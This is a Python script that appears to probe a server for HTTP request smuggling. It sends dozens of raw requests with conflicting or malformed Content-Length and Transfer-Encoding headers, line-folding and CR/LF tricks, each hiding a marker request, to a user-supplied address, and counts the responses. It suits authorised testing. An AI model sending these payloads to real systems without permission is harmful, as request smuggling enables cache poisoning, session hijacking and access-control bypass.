"""Requests that two programs could read in two ways: `smuggler.py ADDRESS`.

Each payload has `GET /smuggled` where a body or nonsense is meant. Who lets it reach the origin as a request has
read the payload otherwise than the one in front of it. Prints how many payloads were answered, and how.
"""
import collections
import socket
import sys

HIDDEN = b"GET /smuggled HTTP/1.1\r\nHost: tv.example\r\n\r\n"
HOST = b"Host: tv.example\r\n"


def post(fields, body):
    return b"POST /a HTTP/1.1\r\n" + HOST + fields + b"\r\n" + body


def chunk(data):
    return b"%x\r\n%s\r\n" % (len(data), data)


CHUNKED = b"Transfer-Encoding: chunked\r\n"
LENGTH = b"Content-Length: %d\r\n" % len(HIDDEN)
END = b"0\r\n\r\n"
PAYLOADS = [
    post(LENGTH + CHUNKED, END + HIDDEN),
    post(CHUNKED + b"Content-Length: 4\r\n", chunk(HIDDEN) + END),
    post(LENGTH + b"Content-Length: 0\r\n", HIDDEN),
    post(b"Content-Length: 0\r\n" + LENGTH, HIDDEN),
    post(b"Content-Length: +0\r\n", HIDDEN),
    post(b"Content-Length: 0x0\r\n", HIDDEN),
    post(b"Content-Length: 0, %d\r\n" % len(HIDDEN), HIDDEN),
    post(b"Content-Length: -1\r\n", HIDDEN),
    post(b"Content-Length: 0 0\r\n", HIDDEN),
    post(b"Content-Length : %d\r\n" % len(HIDDEN), HIDDEN),
    post(b"Content-Length: 18446744073709551616\r\n", HIDDEN),
    post(b"Content_Length: %d\r\n" % len(HIDDEN) + CHUNKED, chunk(HIDDEN) + END),
]
for coding in [
    b" chunked", b"\tchunked", b"chunked ", b"Chunked", b"xchunked", b"chunked, identity", b"identity, chunked",
    b"chunked, chunked", b"\x0bchunked", b'"chunked"', b"identity", b"gzip, chunked", b"chunked\x00",
]:
    field = b"Transfer-Encoding:" + coding + b"\r\n"
    PAYLOADS += [post(field + LENGTH, END + HIDDEN), post(LENGTH + field, END + HIDDEN)]
    PAYLOADS += [post(field, chunk(HIDDEN) + END)]
PAYLOADS += [
    post(b"Transfer-Encoding : chunked\r\n" + LENGTH, END + HIDDEN),
    post(b" Transfer-Encoding: chunked\r\n" + LENGTH, END + HIDDEN),
    post(b"A: b\r\n Transfer-Encoding: chunked\r\n" + LENGTH, END + HIDDEN),
    post(b"A: b\nTransfer-Encoding: chunked\r\n" + LENGTH, END + HIDDEN),
    post(b"A: b\rTransfer-Encoding: chunked\r\n" + LENGTH, END + HIDDEN),
    post(b"A: b\x00\r\nTransfer-Encoding: chunked\r\n" + LENGTH, END + HIDDEN),
    post(b"Connection: Content-Length\r\n" + LENGTH, HIDDEN),
    post(b"Connection: Transfer-Encoding\r\n" + CHUNKED, chunk(HIDDEN) + END),
    post(b"Expect: 100-continue\r\n" + LENGTH, HIDDEN),
    post(b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n" + LENGTH, HIDDEN),
    post(CHUNKED, b"0\n\r\n" + HIDDEN),
    post(CHUNKED, b"0x0\r\n\r\n" + HIDDEN),
    post(CHUNKED, b"-1\r\n\r\n" + HIDDEN),
    post(CHUNKED, b"10000000000000000\r\n\r\n" + HIDDEN),
    post(CHUNKED, b"1;a=\n\r\nb\r\n" + chunk(HIDDEN) + END),
    post(CHUNKED, b"1\r\nab\r\n" + HIDDEN),
    post(CHUNKED, b"0\r\nGET /smuggled HTTP/1.1\r\nHost: tv.example\r\n\r\n"),
    b"GET /a HTTP/1.0\r\n" + HOST + CHUNKED + LENGTH + b"\r\n" + END + HIDDEN,
    b"GET /a HTTP/1.1\r\n" + HOST + LENGTH + b"\r\n" + HIDDEN,
    b"HEAD /a HTTP/1.1\r\n" + HOST + LENGTH + b"\r\n" + HIDDEN,
    b"GET /a\r\n" + HIDDEN.replace(b"GET /smuggled", b"A: GET /smuggled"),
    b"GET /a?\r HTTP/1.1\r\n" + HOST + LENGTH + b"\r\n" + HIDDEN,
    b"GET /a HTTP/1.1\r\n" + HOST + b"X: y\r\n\tGET /smuggled HTTP/1.1\r\n" + HOST + b"\r\n",
]


def answer(payload):
    with socket.create_connection((sys.argv[1], 80), timeout=20) as client:
        try:
            client.sendall(payload)
            client.shutdown(socket.SHUT_WR)  # Who refused before it had all has reset the connection by now.
            first = client.recv(65536)
            while client.recv(65536):
                pass
        except OSError:
            return "reset"
        return first.split(b" ")[1].decode() if b" " in first else "nothing"


print(len(PAYLOADS), dict(collections.Counter(map(answer, PAYLOADS))))
